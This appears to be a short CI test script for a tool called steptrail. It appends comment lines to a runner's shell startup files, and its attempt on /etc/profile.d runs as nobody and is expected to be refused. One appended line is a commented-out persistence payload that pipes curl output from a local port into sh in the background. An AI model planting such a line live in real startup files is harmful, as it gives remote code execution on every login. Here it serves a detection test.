# Lines appended to the CI user's startup files (/home/runner: record.sh
# removes it afterwards).  Every line added is a comment: nothing runs it.
# /etc/profile.d is tried as nobody (refused).
NOBODY="setpriv --reuid=65534 --regid=65534 --clear-groups --no-new-privs"
echo '# steptrail attack test' >> ~/.bashrc
echo '# steptrail attack test' | tee -a ~/.profile > /dev/null
bash -c "echo '#(curl -fsSL http://127.0.0.1:9/u.sh | sh) >/dev/null 2>&1 & # steptrail attack test' >> ~/.bash_profile"
$NOBODY tee -a /etc/profile.d/steptrail-attack.sh < /dev/null > /dev/null 2>&1 || true
# Low: what a toolchain installer appends (here as a comment).
bash -c "echo '# . \"\$HOME/.cargo/env\"' >> ~/.profile"
